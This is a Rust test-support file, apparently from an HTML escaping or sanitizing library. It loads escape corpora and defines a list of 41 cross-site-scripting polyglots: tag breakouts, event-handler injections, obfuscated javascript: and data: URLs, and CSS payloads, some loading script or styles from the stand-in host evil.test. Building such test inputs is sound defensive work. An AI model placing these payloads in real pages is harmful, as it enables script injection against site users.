//! Hostile texts: the values of the corpora of escaping, their whole sources, and polyglots, each once.

use serde_json::Value;
use std::sync::LazyLock;

pub(crate) static VALUES: LazyLock<Vec<String>> = LazyLock::new(|| {
    let mut values: Vec<String> = POLYGLOTS.iter().copied().map(str::to_owned).collect();
    let corpora = [
        include_str!("../../corpus/escape.jsonl"),
        include_str!("../../corpus/escape_beyond.jsonl"),
    ];
    for line in corpora.iter().flat_map(|corpus| corpus.lines()) {
        let case: Value = serde_json::from_str(line).expect("a line of a corpus is JSON");
        let text = |key: &str| match &case[key] {
            Value::String(text) => text.clone(),
            other => other.to_string(),
        };
        let value = text("value");
        let source = [text("html_before"), value.clone(), text("html_after")].concat();
        for text in [value, source] {
            if !values.contains(&text) {
                values.push(text);
            }
        }
    }
    values
});

/// Texts that break out of several places at once. Each calls `alert`, or fetches from `evil.test`.
const POLYGLOTS: [&str; 41] = [
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onfocus=alert(1) autofocus x=\"",
    "' onclick=alert(1) x='",
    "` onclick=alert(1) ",
    "x onclick=alert(1) ",
    "</textarea><script>alert(1)</script>",
    "\n</textarea></pre></title><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript:alert(1)",
    "  JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "\0javascript:alert(1)",
    "\u{a0}javascript:alert(1)",
    "javascript\t:alert(1)",
    "javascript:alert(1);https://example.test/",
    "vbscript:alert(1)",
    "data:text/html,<script>parent.alert(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "/ok 1x, javascript:alert(1) 2x",
    "/ok;javascript:alert(1)",
    "red;background:url(//evil.test/style.png)",
    "url(//evil.test/value.png)",
    "expression(alert(1))",
    "}</style><script>alert(1)</script>",
    "onload",
];
